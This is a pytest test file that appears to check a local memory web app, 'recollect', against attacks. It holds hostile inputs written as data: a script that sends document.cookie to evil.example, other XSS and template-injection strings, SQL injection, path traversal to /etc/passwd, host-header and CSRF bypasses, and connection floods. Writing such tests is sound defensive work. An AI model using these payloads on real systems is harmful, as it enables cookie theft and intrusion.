"""What somebody else's page, program or transcript may try against the page: none of it reads or changes anything."""

from __future__ import annotations

import hashlib
import re
import socket
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import pytest

from recollect.app import open_memory
from recollect.store.migrate import migrations
from recollect.surfaces.http import place
from tests.pages import Answer, Browser, page

pytestmark = pytest.mark.attacks

SCRIPT = "<script>fetch('http://evil.example/'+document.cookie)</script>"
HOSTILE = (
    f"{SCRIPT} is what the pond says.",
    "The pond <img src=x onerror=alert(1)> has a picture.",
    'The pond "><svg onload=alert(1)> breaks out.',
    "The pond <b hx-get='/erase' hx-trigger=load hx-on:click='alert(1)' data-hx-post='/x'>moves</b>.",
    "The pond [is](javascript:alert(1)) a link, ![here](http://evil.example/x.png).",
    "The pond {{ 7 * 191 }} {% for x in y %} is a template.",
    "The pond turns \u202etxet siht\u202c around.",
    "The pond </textarea></pre></title><h1>owned</h1> ends.",
)
TABLES = re.findall(r"^CREATE TABLE (\w+)", "".join(each.sql for each in migrations()), re.MULTILINE)
FORM = "application/x-www-form-urlencoded"


class World:
    """A page with hostile texts in it, and what it was before anybody tried anything."""

    def __init__(self, browser: Browser, ids: list[str]) -> None:
        self.browser = browser
        self.ids = ids
        self.csrf = browser.csrf
        self.before = self.hash()

    def hash(self) -> str:
        """Of every file of the home but the page's tokens and logs, and of every row."""
        told = hashlib.sha256()
        home = self.browser.home
        for each in sorted(home.rglob("*")):
            name = each.relative_to(home).as_posix()
            if each.is_file() and not re.match(r"recollect\.db|logs/|page/(token|lock|on)", name):
                told.update(name.encode() + each.read_bytes())
        with open_memory(home, environ={}) as memory, memory.database.read() as tx:
            for table in TABLES:
                told.update(repr(sorted(tx.rows(f"SELECT * FROM {table}"), key=repr)).encode())
        return told.hexdigest()


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    home = tmp_path_factory.mktemp("attacked") / "home"
    with open_memory(home, environ={}, embedder="none") as memory:
        ids = [memory.remember(text, project=home.parent / "lake").id for text in HOSTILE]
        memory.index()
    with page(home, RECOLLECT_EMBEDDER="none") as browser:
        browser.get("/")
        yield World(browser, ids)


def headers(**given: str) -> dict[str, Any]:
    return {"headers": [(name.replace("_", "-"), value) for name, value in given.items()]}


def filled(text: str, browser: Browser) -> str:
    """With the page's own name and port where a text leaves room for them."""
    state = browser.state
    return text.replace("NAME", state.name).replace("PORT", str(state.port)).replace("COOKIE", browser.cookie)


PIN = {"opinion": "not_ok"}
ATTACKS: dict[str, tuple[str, str, dict[str, Any], set[int]]] = {
    # by another name
    "host localhost": ("GET", "/", headers(Host="localhost:PORT"), {421}),
    "host address": ("GET", "/", headers(Host="127.0.0.1:PORT"), {421}),
    "host address 6": ("GET", "/", headers(Host="[::1]:PORT"), {421}),
    "host rebound": ("GET", "/memories", headers(Host="evil.example:PORT"), {421}),
    "host below": ("GET", "/", headers(Host="x.NAME.localhost:PORT"), {421}),
    "host dot": ("GET", "/", headers(Host="NAME.localhost.:PORT"), {421}),
    "host port": ("GET", "/", headers(Host="NAME.localhost:1"), {421}),
    "host no port": ("GET", "/", headers(Host="NAME.localhost"), {421}),
    "host user": ("GET", "/", headers(Host="evil@NAME.localhost:PORT"), {421}),
    "host twice": ("GET", "/", {"headers": [("Host", "NAME.localhost:PORT"), ("Host", "evil.example")]}, {400, 421}),
    "host none": ("GET", "/", {"without": ["Host"]}, {400, 421}),
    "host forwarded": ("GET", "/", headers(Host="evil.example", X_Forwarded_Host="NAME.localhost:PORT"), {421}),
    # from another page
    "read cross-site": ("GET", "/memories", headers(Sec_Fetch_Site="cross-site", Sec_Fetch_Mode="cors"), {403}),
    "read same-site": ("GET", "/memories", headers(Sec_Fetch_Site="same-site"), {403}),
    "read by navigation": (
        "GET",
        "/memories",
        headers(Sec_Fetch_Site="cross-site", Sec_Fetch_Mode="navigate", Sec_Fetch_Dest="document"),
        {403},
    ),
    "read in a frame": ("GET", "/", headers(Sec_Fetch_Site="cross-site", Sec_Fetch_Dest="iframe"), {403}),
    "read with origin": ("GET", "/memories", headers(Origin="http://evil.example"), {403}),
    "listen from elsewhere": ("GET", "/live", headers(Origin="http://NAME.localhost:1"), {403}),
    "enter as an image": ("GET", "/enter?token=x", headers(Sec_Fetch_Site="cross-site", Sec_Fetch_Dest="image"), {403}),
    "write from elsewhere": ("POST", "PIN", headers(Origin="http://evil.example"), {403}),
    "write from null": ("POST", "PIN", headers(Origin="null"), {403}),
    "write from another port": ("POST", "PIN", headers(Origin="http://NAME.localhost:1"), {403}),
    "write from the address": ("POST", "PIN", headers(Origin="http://127.0.0.1:PORT"), {403}),
    "write from https": ("POST", "PIN", headers(Origin="https://NAME.localhost:PORT"), {403}),
    "write without origin": ("POST", "PIN", {"without": ["Origin"]}, {403}),
    "write from two": (
        "POST",
        "PIN",
        {"headers": [("Origin", "http://NAME.localhost:PORT"), ("Origin", "http://evil.example")]},
        {403},
    ),
    "write cross-site": ("POST", "PIN", headers(Sec_Fetch_Site="cross-site"), {403}),
    "write same-site": ("POST", "PIN", headers(Sec_Fetch_Site="same-site"), {403}),
    "write typed": ("POST", "PIN", headers(Sec_Fetch_Site="none"), {403}),
    # without the form's token
    "no form token": ("POST", "PIN", {"form": PIN}, {403}),
    "empty form token": ("POST", "PIN", {"form": {**PIN, "csrf": ""}}, {403}),
    "guessed form token": ("POST", "PIN", {"form": {**PIN, "csrf": "0" * 64}}, {403}),
    "cookie as form token": ("POST", "PIN", {"form": {**PIN, "csrf": "COOKIE"}}, {403}),
    "form token in address": ("POST", "PIN?csrf=CSRF", {"form": PIN}, {403}),
    "form token of no login": ("POST", "PIN", {"form": {**PIN, "csrf": place.hashed("form:")}}, {403}),
    "form token twice": ("POST", "PIN", {"body": "csrf=CSRF&csrf=CSRF&opinion=not_ok"}, {400}),
    "as json": ("POST", "PIN", {"body": '{"csrf": "CSRF"}', **headers(Content_Type="application/json")}, {415}),
    "as text": ("POST", "PIN", {"body": "csrf=CSRF", **headers(Content_Type="text/plain")}, {415}),
    "as parts": ("POST", "PIN", {"body": "x", **headers(Content_Type="multipart/form-data; boundary=x")}, {415}),
    # without a login
    "no cookie": ("GET", "/memories", {"without": ["Cookie"]}, {401}),
    "no cookie, erase": ("POST", "/erase/plan", {"without": ["Cookie"]}, {401}),
    "guessed cookie": ("GET", "/", headers(Cookie="recollect_page=AAAA"), {401}),
    "empty cookie": ("GET", "/", headers(Cookie="recollect_page="), {401}),
    "hash as cookie": ("GET", "/", headers(Cookie="recollect_page=HASH"), {401}),
    "cut cookie": ("GET", "/", headers(Cookie="recollect_page=CUT"), {401}),
    "two cookies": ("GET", "/", headers(Cookie="recollect_page=AAAA; recollect_page=COOKIE"), {401}),
    "other cookie name": ("GET", "/", headers(Cookie="Recollect_Page=COOKIE"), {401}),
    "live without cookie": ("GET", "/live", {"without": ["Cookie"]}, {401}),
    # tokens
    "no token": ("GET", "/enter", {}, {401}),
    "guessed token": ("GET", "/enter?token=AAAA", {}, {401}),
    "token that climbs": ("GET", "/enter?token=../state.json", {}, {401}),
    "token of NUL": ("GET", "/enter?token=%00", {}, {401}),
    "token posted": ("POST", "/enter?token=x", {}, {405}),
    # methods and paths
    "preflight": ("OPTIONS", "/memories", headers(Access_Control_Request_Method="POST"), {405}),
    "put": ("PUT", "/m/x", {}, {405}),
    "delete": ("DELETE", "/m/x", {}, {405}),
    "trace": ("TRACE", "/", {}, {405}),
    "static climbs": ("GET", "/static/../guard.py", {}, {401, 404}),
    "static climbs encoded": ("GET", "/static/%2e%2e%2fguard.py", {}, {404}),
    "static climbs twice": ("GET", "/static/%252e%252e%252fguard.py", {}, {404}),
    "static elsewhere": ("GET", "/static//etc/passwd", {}, {404}),
    "path of a file": ("GET", "/m/..%2f..%2f..%2fetc%2fpasswd", {}, {404}),
    "session of a file": ("GET", "/s//etc/passwd", {}, {404}),
    "receipt that climbs": ("GET", "/erase/..%2fstate", {}, {404}),
    "receipt of NUL": ("GET", "/erase/a%00b/receipt", {}, {404}),
    "id of NUL": ("GET", "/m/m-%00", {}, {404}),
    "id of a wildcard": ("GET", "/m/m-%25", {}, {404}),
    "id of nothing": ("GET", "/m/%20", {}, {404}),
    "unknown verb": ("POST", "/m/ID/drop", {}, {422}),
    # input
    "sql in a query": ("GET", "/memories?q=" + quote("'; DROP TABLE memory_memories; --"), {}, {200}),
    "sql in a facet": ("GET", "/memories?kind=" + quote("' OR '1'='1"), {}, {200}),
    "sql in a cursor": ("GET", "/memories?after=" + quote("2026-01-01T00:00:00.000Z~' OR 1=1"), {}, {422}),
    "NUL in a query": ("GET", "/memories?q=%00", {}, {422}),
    "no UTF-8 in a query": ("GET", "/memories?q=%ED%A0%80", {}, {422}),
    "long query": ("GET", "/memories?q=" + "a" * 3000, {}, {422}),
    "long address": ("GET", "/memories?q=" + "a" * 9000, {}, {414}),
    "NUL in a form": ("POST", "PIN", {"body": "csrf=CSRF&opinion=not_ok&reason=%00"}, {400}),
    "half a surrogate": ("POST", "PIN", {"body": "csrf=CSRF&opinion=not_ok&reason=%ED%A0%80"}, {400}),
    "many fields": ("POST", "PIN", {"body": "&".join(f"f{n}=1" for n in range(500))}, {400}),
    "long form": ("POST", "PIN", {"body": "csrf=CSRF&reason=" + "a" * 70_000}, {413}),
    "a setting": ("POST", "/m/ID/correct", {"form": {"csrf": "CSRF", "text": "x", "database": "postgres://x"}}, {422}),
    "settings posted": ("POST", "/workings", {}, {404, 405}),
    "erase without a word": (
        "POST",
        "/erase/confirm",
        {"form": {"csrf": "CSRF", "kind": "memory", "name": "ID"}},
        {422},
    ),
    "erase by another digest": (
        "POST",
        "/erase/confirm",
        {"form": {"csrf": "CSRF", "kind": "memory", "name": "ID", "word": "erase", "digest": "0" * 16}},
        {409},
    ),
    "erase everything": ("POST", "/erase/plan", {"form": {"csrf": "CSRF", "kind": "text", "name": ""}}, {422}),
    "erase by address": ("GET", "/erase/confirm?kind=memory&name=ID&word=erase", {}, {404}),
    "move nowhere": (
        "POST",
        "/m/ID/move",
        {"form": {"csrf": "CSRF", "revision": "1", "project": "../../etc"}},
        {422},
    ),
}


def attack(world: World, method: str, path: str, more: dict[str, Any]) -> Answer:
    browser = world.browser

    def told(text: str) -> str:
        text = text.replace("CSRF", world.csrf).replace("HASH", place.hashed(browser.cookie))
        return filled(text.replace("CUT", browser.cookie[:-1]).replace("ID", world.ids[0]), browser)

    path = told(path.replace("PIN", f"/m/{world.ids[0]}/feedback"))
    body = told(more["body"]) if "body" in more else ""
    if method == "POST" and not body:
        form = more.get("form", {"csrf": "CSRF", **PIN})
        body = urlencode({name: told(value) for name, value in form.items()})
    sent = [(name, told(value)) for name, value in more.get("headers", ())]
    return browser.ask(method, path, body.encode(), sent, more.get("without", ()))


def test_there_are_enough_of_them() -> None:
    assert len(ATTACKS) >= 50


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_reads_and_changes_nothing(world: World, name: str) -> None:
    method, path, more, expected = ATTACKS[name]
    answer = attack(world, method, path, more)
    assert answer.status in expected, answer.text
    if answer.status not in (200, 409, 422):
        assert "pond" not in answer.text
    assert "access-control-allow-origin" not in answer.headers
    assert world.hash() == world.before


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_memory_says_is_text_on_every_view(world: World, text: str) -> None:
    one = world.ids[HOSTILE.index(text)]
    views = [
        "/",
        "/memories",
        "/memories?q=pond",
        f"/m/{one}",
        "/inbox",
        "/sessions",
        f"/erase?memory={one}",
        "/context",
    ]
    answers = [world.browser.get(each) for each in views]
    answers.append(world.browser.post("/erase/plan", kind="memory", name=one))
    answers.append(world.browser.get("/memories", q=text[:200]))
    for answer in answers:
        assert answer.status == 200
        raw = answer.body.decode()
        for part in (
            "<script>fetch",
            "<img src=x",
            "<svg onload",
            "<b hx-get",
            "<h1>owned",
            "1337",
            '<a href="java',
        ):
            assert part not in raw, part
        policy = answer.headers["content-security-policy"]
        assert (
            "unsafe" not in policy and "script-src 'nonce-" in policy and answer.headers["cache-control"] == "no-store"
        )
        nonces = set(re.findall(r'nonce="([^"]*)"', raw))
        assert nonces == {re.findall(r"nonce-([^']*)'", policy)[0]}
        assert "style=" not in raw


def test_a_nonce_is_used_once(world: World) -> None:
    told = {world.browser.get("/").headers["content-security-policy"] for _ in range(5)}
    assert len(told) == 5


@pytest.mark.parametrize(
    "back", ["//evil.example", "https://evil.example", "/\\evil.example", "/\r\nX: y", "javascript:1"]
)
def test_no_form_leads_to_another_page(tmp_path: Path, back: str) -> None:
    home = tmp_path / "home"
    with open_memory(home) as memory:
        one = memory.remember("The pond is deep.", everywhere=True)
    with page(home) as browser:
        answer = browser.post(f"/m/{one.id}/pin", back=back)
        assert (answer.status, answer.headers["location"]) == (303, f"/m/{one.id}?done=pin")
        assert "x" not in answer.headers


def test_a_flood_of_connections_that_say_nothing_keeps_nobody_out(world: World) -> None:
    with ExitStack() as stack:
        for _ in range(60):
            one = stack.enter_context(socket.create_connection(("127.0.0.1", world.browser.state.port)))
            one.sendall(b"GET / HTTP/1.1\r\nHost: ")
        assert world.browser.get("/memories").status == 200


def test_a_flood_of_listeners_is_turned_away(world: World) -> None:
    state = world.browser.state
    request = f"GET /live HTTP/1.1\r\nHost: {state.host}\r\nCookie: recollect_page={world.browser.cookie}\r\n\r\n"
    with ExitStack() as stack:
        told = []
        for _ in range(24):
            one = stack.enter_context(socket.create_connection(("127.0.0.1", state.port)))
            one.settimeout(10)
            one.sendall(request.encode())
            told.append(one.recv(12))
        assert told.count(b"HTTP/1.1 200") == 20 and told.count(b"HTTP/1.1 503") == 4
        assert world.browser.get("/memories").status == 200
    time.sleep(1)


def test_a_flood_of_requests_is_answered(world: World) -> None:
    with ThreadPoolExecutor(16) as pool:
        asked = [pool.submit(world.browser.get, "/memories", q=f"pond {n}") for n in range(60)]
        assert {each.result().status for each in asked} <= {200, 503}
    assert world.browser.get("/").status == 200


def test_what_was_erased_is_not_in_any_page_that_may_be_kept(world: World) -> None:
    for view in ("/", "/memories", f"/m/{world.ids[0]}", "/inbox", "/context"):
        assert world.browser.get(view).headers["cache-control"] == "no-store"


def test_nothing_of_it_stands_in_the_log_or_in_arguments(world: World) -> None:
    token = place.mint(world.browser.home)
    world.browser.ask("GET", f"/enter?token={token}")
    world.browser.get("/memories", q="a very secret query")
    logs = b"".join(each.read_bytes() for each in (world.browser.home / "logs").glob("*"))
    arguments = Path(f"/proc/{world.browser.process.pid}/cmdline").read_bytes()
    for secret in (token, world.browser.cookie, world.csrf, "very secret"):
        assert secret.encode() not in logs + arguments


def test_others_of_the_machine_read_nothing_of_the_page(world: World) -> None:
    folder = world.browser.home / "page"
    assert folder.stat().st_mode & 0o077 == 0
    assert [each.name for each in folder.iterdir() if each.stat().st_mode & 0o077] == []
    assert world.browser.cookie.encode() not in b"".join(each.read_bytes() for each in folder.iterdir())
